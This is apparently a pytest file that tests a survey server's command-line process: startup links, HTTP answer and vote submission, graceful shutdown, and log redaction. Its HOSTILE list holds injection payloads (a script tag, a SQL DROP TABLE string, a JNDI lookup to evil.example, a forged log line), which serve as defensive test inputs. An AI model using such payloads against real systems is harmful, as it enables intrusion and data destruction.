"""serve-survey as a user runs it: a real process that prints the link and join code
first, takes answers over HTTP, and stops cleanly on SIGTERM or SIGINT."""

from __future__ import annotations

import re
import signal
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from test_survey_server import NONCE

from philosophy_studio.domain.commands import SetWorkshopField, WorkshopField
from philosophy_studio.domain.model import AnswerSource, Language, WorkshopInfo
from philosophy_studio.services.workshop_service import WorkshopService, new_workshop

VOTING_LINK = re.compile(r"^Voting link: http://127\.0\.0\.1:(\d+)(/v/[A-Za-z0-9_-]{22})$")
LINK = re.compile(r"^Survey link: (http://127\.0\.0\.1:(\d+)(/a/[A-Za-z0-9_-]{22}))$")
JOIN = re.compile(r"^Join at http://127\.0\.0\.1:(\d+)/ with code: (\d{4} \d{4})$")


@pytest.fixture
def workshop(tmp_path: Path) -> Path:
    path = tmp_path / "w.pstudio"
    service = WorkshopService.create(
        path, new_workshop(WorkshopInfo(team_name="Destek", language=Language.ENGLISH))
    )
    service.execute(SetWorkshopField(WorkshopField.SURVEY_OPEN, True))
    service.close()
    return path


def start(*args: str, cwd: Path) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "philosophy_studio", "serve-survey", *args],
        cwd=cwd,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
    )


def post_answer(port: int, path: str, text: str) -> int:
    import http.client
    from urllib.parse import urlencode

    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request("GET", path)
        form = connection.getresponse().read().decode()
        nonce = NONCE.search(form).group(1)
        connection.request(
            "POST",
            path,
            urlencode({"nonce": nonce, "answer": text}),
            {"Content-Type": "application/x-www-form-urlencoded"},
        )
        response = connection.getresponse()
        response.read()
        return response.status
    finally:
        connection.close()


@pytest.mark.parametrize("stop_signal", [signal.SIGTERM, signal.SIGINT])
def test_serve_survey_prints_link_and_code_first_then_stops_cleanly(workshop, tmp_path, stop_signal) -> None:
    process = start(str(workshop), "--host", "127.0.0.1", cwd=tmp_path)
    try:
        first = process.stdout.readline().strip()
        second = process.stdout.readline().strip()
        link = LINK.match(first)
        join = JOIN.match(second)
        assert link, first
        assert join, second
        port = int(link.group(2))
        assert int(join.group(1)) == port
        assert post_answer(port, link.group(3), "Calm and clear") == 200
        process.send_signal(stop_signal)
        out, err = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert process.returncode == 0, err
    assert "Stopped. 1 answer(s) arrived from phones." in out
    # Nothing about the phone (its address) or any request reaches the output.
    assert err == ""
    assert "127.0.0.1" not in out  # only the two lines that announced the server, read above
    service = WorkshopService.open(workshop)
    try:
        (answer,) = service.load().answers
    finally:
        service.close()
    assert (answer.text, answer.source) == ("Calm and clear", AnswerSource.LAN)
    # The port is free again and the token is dead.
    with pytest.raises(OSError), socket.create_connection(("127.0.0.1", port), timeout=2):
        pass


def test_serve_survey_uses_the_given_port(workshop, tmp_path) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    process = start(str(workshop), "--host", "127.0.0.1", "--port", str(port), cwd=tmp_path)
    try:
        assert process.stdout.readline().startswith(f"Survey link: http://127.0.0.1:{port}/a/")
        process.send_signal(signal.SIGTERM)
        process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert process.returncode == 0


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (("missing.pstudio",), "does not exist"),
        (("w.pstudio", "--port", "99999"), "65535"),
        (("w.pstudio", "--pulse", "--all"), "one check-in of one workshop"),
        (("w.pstudio", "--checkin", "2"), "--checkin names the check-in"),
        (("w.pstudio", "--pulse", "--checkin", "0"), "from 1 in calendar order"),
        (("w.pstudio", "--pulse", "--checkin", "9"), "no check-in 9"),
    ],
)
def test_serve_survey_reports_bad_input_in_one_line(workshop, tmp_path, args, fragment) -> None:
    process = start(*args, cwd=tmp_path)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 2
    lines = err.strip().splitlines()
    assert len(lines) == 1 and fragment in lines[0], err
    assert out == ""


def test_serve_survey_with_votes_serves_the_ballot_of_the_open_round(tmp_path) -> None:
    import http.client
    from urllib.parse import urlencode

    from philosophy_studio.domain.model import VotingRound
    from philosophy_studio.domain.voting_commands import AddVotingRound
    from philosophy_studio.services.interchange import demo_workshop

    path = tmp_path / "demo.pstudio"
    service = WorkshopService.create(path, demo_workshop(Language.ENGLISH))
    round_id = service.execute(AddVotingRound(VotingRound(id=0))).inverse.round_id
    card = next(c for c in service.load().value_cards if c.merged_into is None)
    service.close()
    process = start(str(path), "--host", "127.0.0.1", "--votes", cwd=tmp_path)
    try:
        link = VOTING_LINK.match(process.stdout.readline())
        assert link
        assert JOIN.match(process.stdout.readline().strip())
        connection = http.client.HTTPConnection("127.0.0.1", int(link.group(1)), timeout=30)
        try:
            connection.request("GET", link.group(2))
            form = connection.getresponse().read().decode()
            fields = {"nonce": NONCE.search(form).group(1), "round": str(round_id), f"c{card.id}": "2"}
            connection.request(
                "POST",
                link.group(2),
                urlencode(fields),
                {"Content-Type": "application/x-www-form-urlencoded"},
            )
            response = connection.getresponse()
            response.read()
            assert response.status == 200
        finally:
            connection.close()
        process.send_signal(signal.SIGTERM)
        out, err = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert process.returncode == 0, err
    assert "Stopped. 1 ballot(s) arrived from phones." in out
    service = WorkshopService.open(path)
    try:
        voted = next(r for r in service.load().voting_rounds if r.id == round_id)
    finally:
        service.close()
    assert (voted.tallies, voted.voters) == ({card.id: 2}, 1)


def test_serve_survey_takes_its_configuration_from_the_environment(workshop, tmp_path) -> None:
    import os

    environment = {
        **os.environ,
        "PHILOSOPHY_STUDIO_SURVEY_DATABASE": str(workshop),
        "PHILOSOPHY_STUDIO_SURVEY_HOST": "127.0.0.1",
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "philosophy_studio", "serve-survey"],
        cwd=tmp_path,
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
    )
    try:
        assert LINK.match(process.stdout.readline().strip())
        process.send_signal(signal.SIGTERM)
        _out, err = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert process.returncode == 0, err


def test_serve_survey_names_the_workshops_to_choose_from(tmp_path) -> None:
    from philosophy_studio.persistence import repository

    path = tmp_path / "two.pstudio"
    service = WorkshopService.create(
        path, new_workshop(WorkshopInfo(team_name="Billing", language=Language.ENGLISH))
    )
    # A second workshop in the same store, as a team database holds several.
    with service.store.write() as session:
        repository.insert_workshop(
            session, new_workshop(WorkshopInfo(team_name="Returns", language=Language.ENGLISH))
        )
    service.close()
    process = start(str(path), "--host", "127.0.0.1", cwd=tmp_path)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 2
    (line,) = err.strip().splitlines()
    assert "holds 2 workshops" in line and "--workshop N" in line and "1 Billing" in line, line
    assert out == ""


def _first_lines(process: subprocess.Popen[str]) -> tuple[int, str, str]:
    link = LINK.match(process.stdout.readline().strip())
    join = JOIN.match(process.stdout.readline().strip())
    assert link and join
    return int(link.group(2)), link.group(3), join.group(2)


def _stop(process: subprocess.Popen[str]) -> tuple[str, str]:
    try:
        process.send_signal(signal.SIGTERM)
        return process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()


def test_sigterm_lets_the_request_in_flight_finish(workshop, tmp_path) -> None:
    """A phone is half-way through sending its answer when the service manager stops
    the service: the answer is stored and thanked for, then the process exits 0."""
    import time
    from urllib.parse import urlencode

    process = start(str(workshop), "--host", "127.0.0.1", "--log-format", "json", cwd=tmp_path)
    try:
        port, path, _code = _first_lines(process)
        with socket.create_connection(("127.0.0.1", port), timeout=30) as phone:
            phone.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
            form = b""
            while b"</html>" not in form:
                form += phone.recv(65536)
        nonce = NONCE.search(form.decode()).group(1)
        body = urlencode({"nonce": nonce, "answer": "Sent while the service stopped"}).encode()
        slow = socket.create_connection(("127.0.0.1", port), timeout=30)
        try:
            slow.sendall(
                (
                    f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                    "Content-Type: application/x-www-form-urlencoded\r\n"
                    f"Content-Length: {len(body)}\r\n\r\n"
                ).encode()
                + body[:10]
            )
            process.send_signal(signal.SIGTERM)
            # The service has begun to stop once it takes no new connections.
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:
                try:
                    socket.create_connection(("127.0.0.1", port), timeout=1).close()
                except OSError:
                    break
                time.sleep(0.05)
            else:
                raise AssertionError("the service kept taking new connections after SIGTERM")
            slow.sendall(body[10:])
            reply = b""
            while b"</html>" not in reply:
                chunk = slow.recv(65536)
                if not chunk:
                    break
                reply += chunk
        finally:
            slow.close()
        out, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert reply.startswith(b"HTTP/1.1 200"), reply[:200]
    assert b"Thank you" in reply
    assert process.returncode == 0, err
    assert "Stopped. 1 answer(s) arrived from phones." in out
    service = WorkshopService.open(workshop)
    try:
        assert [answer.text for answer in service.load().answers] == ["Sent while the service stopped"]
    finally:
        service.close()


HOSTILE = [
    "<script>alert('x')</script>",
    "'; DROP TABLE survey_answer; --",
    "%s %(message)s {0} ${jndi:ldap://evil.example/a}",
    'line one\n{"level": "error", "message": "forged"}',
    "Çok güzel bir ekip 😀 " * 40,
]


def test_json_logs_hold_events_but_no_answers_tokens_codes_or_addresses(workshop, tmp_path) -> None:
    import http.client
    import json

    process = start(
        str(workshop),
        "--host",
        "127.0.0.1",
        "--log-format",
        "json",
        "--trusted-proxy",
        "127.0.0.1",
        cwd=tmp_path,
    )
    try:
        port, path, code = _first_lines(process)
        for text in HOSTILE:
            assert post_answer(port, path, text) == 200
        # Requests that fail in other ways: a wrong code, a made-up link, a bad form.
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        try:
            connection.request(
                "GET", "/a/not-the-token-" + "x" * 10, headers={"X-Forwarded-For": "203.0.113.77"}
            )
            connection.getresponse().read()
            connection.request("GET", "/healthz")
            health = json.loads(connection.getresponse().read())
            connection.request(
                "POST",
                path,
                "nonce=forged&answer=x",
                {"Content-Type": "application/x-www-form-urlencoded", "X-Forwarded-For": "203.0.113.77"},
            )
            connection.getresponse().read()
        finally:
            connection.close()
        _out, err = _stop(process)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert process.returncode == 0, err
    assert health == {"database": "reachable", "status": "ok", "workshops": 1}
    events = [json.loads(line) for line in err.splitlines()]
    assert {"started", "stopping", "stopped"} <= {event.get("event") for event in events}
    assert all(
        set(event)
        <= {
            "time",
            "level",
            "logger",
            "message",
            "event",
            "workshop",
            "workshops",
            "port",
            "stored",
            "traceback",
        }
        for event in events
    )
    token = path.rsplit("/", 1)[1]
    for secret in [
        token,
        code,
        code.replace(" ", ""),
        "127.0.0.1",
        "not-the-token",
        "forged",
        "DROP TABLE",
        "script",
        "jndi",
        "güzel",
    ]:
        assert secret not in err, secret


# What deploy/Containerfile leaves out: the desktop app's window, analysis, PDF,
# spreadsheet and QR code libraries.
NOT_IN_THE_CONTAINER = (
    "PySide6",
    "sklearn",
    "scipy",
    "numpy",
    "reportlab",
    "openpyxl",
    "defusedxml",
    "simplemma",
    "segno",
    "nltk",
)
WITHOUT_DESKTOP_LIBRARIES = f"""
import sys
from importlib.abc import MetaPathFinder

class Absent(MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in {NOT_IN_THE_CONTAINER!r}:
            raise ImportError(f"{{name}} is not installed in the container")
        return None

sys.meta_path.insert(0, Absent())
from philosophy_studio.cli import main
sys.exit(main(sys.argv[1:]))
"""


def test_the_service_runs_without_the_desktop_libraries(workshop, tmp_path) -> None:
    """deploy/Containerfile installs the package without its desktop dependencies."""
    process = subprocess.Popen(
        [
            sys.executable,
            "-c",
            WITHOUT_DESKTOP_LIBRARIES,
            "serve-survey",
            str(workshop),
            "--host",
            "127.0.0.1",
        ],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
    )
    try:
        port, path, _code = _first_lines(process)
        assert post_answer(port, path, "Served by the lean install") == 200
        out, err = _stop(process)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert process.returncode == 0, err
    assert "Stopped. 1 answer(s) arrived from phones." in out
